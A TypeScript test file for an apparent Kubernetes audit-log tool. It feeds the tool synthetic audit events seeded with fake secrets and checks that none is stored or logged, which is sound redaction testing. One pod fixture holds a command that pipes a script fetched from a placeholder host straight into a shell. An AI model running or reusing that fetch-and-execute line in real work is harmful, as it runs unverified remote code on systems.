import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { it } from 'node:test';
import { zstdDecompressSync } from 'node:zlib';
import type { JsonObject } from '../../src/model/json.ts';
import { auditEvent } from '../support/signals.ts';
import { fileOf, linesOf, newFolder, watchbill } from './run-watchbill.ts';

let planted = 0;
const secrets: string[] = [];

/** A value that must be found nowhere. */
function secret(): string {
  planted += 1;
  const value = `pl4nted-s3cret-${planted}-zq`;
  secrets.push(value, Buffer.from(value).toString('base64').replace(/=+$/, ''));
  return value;
}

const encoded = (): string => Buffer.from(secret()).toString('base64');

const podSpec = (): JsonObject => ({
  containers: [
    {
      name: 'main',
      image: 'registry.example/app:1',
      command: ['sh', '-c', 'curl -s https://files.example/r | sh'],
      env: [{ name: 'DATABASE_PASSWORD', value: secret() }],
    },
  ],
  initContainers: [{ name: 'init', image: 'a', env: [{ name: 'A', value: secret() }] }],
});

const cronJob = (): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: {
    name: 'nightly-report',
    namespace: 'data',
    uid: 'uid-1',
    annotations: {
      'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ env: [{ value: secret() }] }),
    },
  },
  spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec: podSpec() } } } },
});

let number = 0;

/** At a time of its own, about an object of this name. */
function event(resource: string, more: JsonObject): JsonObject {
  number += 1;
  const time = `2026-11-23T04:37:${String(number).padStart(2, '0')}.000001Z`;
  return auditEvent({
    auditID: `id-${number}`,
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    objectRef: { resource, namespace: 'data', name: 'nightly-report', apiVersion: 'v1' },
    ...more,
  });
}

const batch = {
  resource: 'cronjobs',
  namespace: 'data',
  name: 'nightly-report',
  apiGroup: 'batch',
  apiVersion: 'v1',
};

const events = (): readonly JsonObject[] => [
  event('cronjobs', { objectRef: batch, requestObject: cronJob(), responseObject: cronJob() }),
  event('cronjobs', {
    objectRef: batch,
    verb: 'patch',
    requestObject: [
      { op: 'add', path: '/spec/jobTemplate/spec/template/spec/containers/0/env/0/value', value: secret() },
      { op: 'replace', path: '/spec/jobTemplate/spec/template/spec', value: podSpec() },
    ],
    responseObject: cronJob(),
  }),
  event('cronjobs', {
    objectRef: batch,
    verb: 'patch',
    requestObject: { spec: { jobTemplate: { spec: { template: { spec: podSpec() } } } } },
    responseObject: undefined,
    annotations: {
      'patch.webhook.admission.k8s.io/round_0_index_0': JSON.stringify({
        patch: [
          {
            op: 'add',
            path: '/spec/jobTemplate/spec/template/spec/containers/0/env',
            value: [{ name: 'X', value: secret() }],
          },
          {
            op: 'add',
            path: '/metadata/annotations',
            value: { 'kubectl.kubernetes.io/last-applied-configuration': secret() },
          },
        ],
      }),
    },
  }),
  event('secrets', {
    requestObject: {
      kind: 'Secret',
      metadata: { name: 'x' },
      stringData: { a: secret() },
      data: { b: encoded() },
    },
    responseObject: {
      kind: 'Secret',
      metadata: { name: 'x', annotations: { note: secret() } },
      data: { b: encoded() },
    },
  }),
  event('secrets', {
    verb: 'patch',
    requestObject: [{ op: 'replace', path: '/data/password', value: encoded() }],
  }),
  event('secrets', {
    verb: 'list',
    requestObject: undefined,
    responseObject: { kind: 'SecretList', items: [{ metadata: { name: 'x' }, data: { b: encoded() } }] },
  }),
  event('configmaps', { requestObject: { kind: 'ConfigMap', data: { 'app.conf': `password=${secret()}` } } }),
  event('serviceaccounts', {
    objectRef: {
      resource: 'serviceaccounts',
      subresource: 'token',
      namespace: 'data',
      name: 'default',
      apiVersion: 'v1',
    },
    requestObject: { kind: 'TokenRequest', spec: {} },
    responseObject: { kind: 'TokenRequest', status: { token: secret() } },
  }),
  event('tokenreviews', { requestObject: { kind: 'TokenReview', spec: { token: secret() } } }),
  event('workflows', {
    objectRef: {
      resource: 'workflows',
      namespace: 'data',
      name: 'w',
      apiGroup: 'argoproj.io',
      apiVersion: 'v1alpha1',
    },
    requestObject: {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Workflow',
      metadata: { name: 'w' },
      spec: {
        templates: [
          { name: 't', container: { image: 'a', command: ['sh'], env: [{ name: 'A', value: secret() }] } },
        ],
        environment: { TOKEN: secret(), list: [`B=${secret()}`] },
        password: secret(),
        items: [{ data: { a: secret() } }],
      },
    },
    responseObject: undefined,
  }),
];

function everythingIn(folder: string): string {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(entry => entry.isFile());
  const raw = files.map(({ parentPath, name }) => readFileSync(join(parentPath, name)).toString('latin1'));
  const database = new DatabaseSync(join(folder, 'watchbill.db'));
  const bodies = database.prepare('SELECT body FROM journal').all();
  const unpacked = bodies.map(({ body }) =>
    body instanceof Uint8Array ? zstdDecompressSync(body).toString('utf8') : '',
  );
  database.close();
  return [...raw, ...unpacked].join('\n');
}

it('nothing that must not be stored is anywhere in the state folder, nor in the log', () => {
  const state = join(newFolder(), 'state');
  const log = fileOf(linesOf(...events(), ...events()));
  const { code, err } = watchbill(['run', '--state', state, '--source', `audit-file:${log}`, '--once']);
  assert.equal(code, 0, err);
  const everything = everythingIn(state);
  assert.ok(everything.includes('nightly-report') && everything.includes('sealed:'), 'the journal was read');
  assert.ok(watchbill(['findings', '--state', state, '-o', 'ndjson']).out.split('\n').length > 3);
  assert.ok(secrets.length > 60);
  assert.deepEqual(
    secrets.filter(value => everything.includes(value) || err.includes(value)),
    [],
  );
});
